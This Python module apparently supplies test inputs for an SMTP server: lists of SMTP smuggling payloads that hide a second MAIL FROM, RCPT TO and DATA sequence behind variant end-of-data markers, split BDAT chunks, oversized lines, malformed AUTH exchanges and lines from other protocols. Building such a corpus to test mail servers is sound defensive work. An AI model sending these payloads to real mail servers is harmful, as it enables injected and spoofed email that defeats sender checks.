"""Known attacks on the framing of SMTP, each with commands behind it."""

from __future__ import annotations

EVIL = (
    b"MAIL FROM:<evil@x.example>\r\nRCPT TO:<b@s.example>\r\nDATA\r\nevil\r\n.\r\n"
    b"QUIT\r\n"
)
#: What some servers have taken for the end of a message, and some for none.
ENDS = (
    *(b"\n.\n", b"\n.\r", b"\r.\n", b"\r.\r", b"\n.\r\n", b"\r.\r\n", b"\r\n.\n"),
    *(b"\r\n.\r", b"\r\n\0.\r\n", b"\r\n.\0\r\n", b"\r\n.\r\r\n", b"\r\r\n.\r\r\n"),
    *(b"\r\n.\n\r\n", b"\n\r.\r\n", b"\n\r\n.\n\r\n", b"\r\n. \r\n", b"\r\n.\t\r\n"),
    *(b"\r\n.\x0b\r\n", b"\r\n.\x1a\r\n", b"\r\n..\r\n", b"\x0b.\x0b", b"\x0c.\x0c"),
    *(b"\x1c.\x1c", b"\xc2\x85.\xc2\x85", b"\xe2\x80\xa8.\xe2\x80\xa8", b"\r\r\n.\r\n"),
    *(
        b"\r\n.\r\n",
        b"\r\0\n.\r\n",
        b"\r\n.\r\0\n",
        b"\x8d\x8a.\x8d\x8a",
        b"\r\n.\\r\n",
    ),
)


def smuggled(end: bytes) -> bytes:
    """Give a dialogue with a message that holds *end* and then commands."""
    return b"DATA\r\nSubject: 1\r\n\r\nbody" + end + EVIL


def smuggled_in_chunks(end: bytes, place: int) -> bytes:
    """Give the same in two chunks, of which the first ends at *place* of the end."""
    return in_two_chunks(b"body" + end + EVIL, len(b"body") + place)


#: Contents of chunks that end where it matters.
STUMPS = (
    *(b".", b"a\n.", b"a\r\n.", b"\n.", b"a\r", b"a\r\n.\r", b"\n.\n", b"..", b"\r\n"),
    *(
        b"a\n.\r\n",
        b"\0.",
        b"a\n..",
        b"\r",
        b"\n",
        b"a\n.\0",
        b"a\r\n.\0\n",
        b"\0\r\0\n",
    ),
)


def in_two_chunks(content: bytes, place: int) -> bytes:
    """Give a message by BDAT that is cut at *place*, and a command behind it."""
    head, tail = content[:place], content[place:]
    return b"BDAT %d\r\n%sBDAT %d LAST\r\n%sNOOP\r\n" % (
        len(head),
        head,
        len(tail),
        tail,
    )


#: First lines of other protocols, and lines that only look like them.
FOREIGN = (
    *(b"SSH-2.0-x", b"SSH-2", b"ssh-2", b"SSH-x", b"get / http", b"GET", b"GETX / x"),
    *(b"x y HTTP/1.1", b"x y sip/2", b"x  sip/2", b"x y icap/x", b"x y RTSP/1", b"x y"),
    *(
        b"1 y SIP/2",
        b"MAILFROM:<a>",
        b"RcptTo: x",
        b"MAILFROM :x",
        b"a_b-1: x",
        b"a b: x",
    ),
    *(
        b"1a: x",
        b"-a: x",
        b"pri *",
        b"{}",
        b"<a>",
        b"\x7f",
        b"\x1f",
        b"~",
        b"\xe9",
        b"_a",
    ),
)
#: Attacks on lines, chunks and AUTH, each with commands behind it.
ATTACKS = (
    *(smuggled(end) for end in ENDS),
    *(smuggled_in_chunks(end, place) for end in ENDS for place in range(len(end) + 1)),
    *(in_two_chunks(end, place) for end in STUMPS for place in range(len(end) + 1)),
    *(in_two_chunks(b"x" * 70, place) for place in (0, 30, 69)),
    *(b"NOOP\n" + EVIL, b"NO\nOP\r\n" + EVIL, b"NOOP\r" + EVIL, b"NOOP\r\r\n" + EVIL),
    *(b"\n" + EVIL, b"\r\n" + EVIL, b"\r" + EVIL, b"\0\r\n" + EVIL, b" \r\n" + EVIL),
    *(
        b"x" * 5000 + b"\r\n" + EVIL,
        b"x" * 3000 + b"\r\n" + EVIL,
        b"x" * 2046 + b"\r\n",
    ),
    *(
        b"AUTH " + b"x" * 5000 + b"\r\n" + EVIL,
        b"AUTHX " + b"x" * 3000 + b"\r\n" + EVIL,
        b"AUTH\t" + b"x" * 3000 + b"\r\n" + EVIL,
        b"AUTH " + b"x" * 30_000 + b"\r\n" + EVIL,
    ),
    *(b"BDAT -1\r\n" + EVIL, b"BDAT\r\n" + EVIL, b"BDAT 1 1\r\n" + EVIL),
    *(b"BDAT  5\r\n" + EVIL, b"VRFY  a\r\n" + EVIL, b"DATA \t\r\n" + EVIL),
    *(b"BDAT 0x10\r\n" + EVIL, b"BDAT 5LAST\r\n" + EVIL, b"BDAT\t5\r\n" + EVIL),
    *(b" BDAT 5\r\n" + EVIL, b"\tbdat 5\r\n" + EVIL, b"BDAT5\r\n" + EVIL),
    b"BDAT " + b"9" * 18 + b" LAST\r\n" + EVIL,
    b"BDAT " + b"9" * 19 + b" LAST\r\n" + EVIL,
    b"BDAT " + b"0" * 17 + b"5 LAST\r\n" + EVIL,
    b"BDAT " + b" " * 3000 + b"5\r\n" + EVIL,
    *(b"BDAT 0 LAST\r\n" + EVIL, b"BDAT 5\r\nQUITBDAT 0 LAST\r\n" + EVIL),
    b"BDAT %d LAST\r\n%s" % (len(EVIL) + 2, EVIL),
    b"BDAT %d LAST\r\n%s" % (len(EVIL) - 2, EVIL),
    *(
        b"AUTH PLAIN\r\n" + EVIL,
        b"AUTH PLAIN\r\n*\r\n" + EVIL,
        b"AUTH X\r\n* \r\n" + EVIL,
    ),
    *(b"AUTH X\r\n*\n" + EVIL, b"AUTH X\r\n *\r\n" + EVIL),
    *(b"AUTH PLAIN\r\n=\r\n" + EVIL, b"AUTH X AAAA\r\nAAAA\r\nAA==\r\n" + EVIL),
    *(b"AUTH X\r\nAB==\r\n" + EVIL, b"AUTH X\r\n" + b"A" * 13_000 + b"\r\n" + EVIL),
    *(b"STARTTLS\r\n" + EVIL, b"DATA x\r\n" + EVIL, b"DATA \r\n" + EVIL + b".\r\n"),
    *(bytes([octet]) for octet in range(256)),
    *(bytes([octet]) + b"\n" for octet in range(256)),
    *(line + b"\r\n" + EVIL for line in FOREIGN),
    *(b"NOOP\r\n" + line + b"\r\n" + EVIL for line in FOREIGN),
    *(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + EVIL, b"POST /\r\n" + EVIL),
    *(b"\x16\x03\x01", b"\x80\n" + EVIL, b"\x05\r" + EVIL, b"\x03" * 5000),
    *(b"\x16\x03\x01\r\n" + EVIL, b"NOOP\r\n\x16\x03\x01\r\n" + EVIL, b"{}\r\n" + EVIL),
    *(b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + EVIL, b"PROXY UNKNOWN\r\n" + EVIL),
)
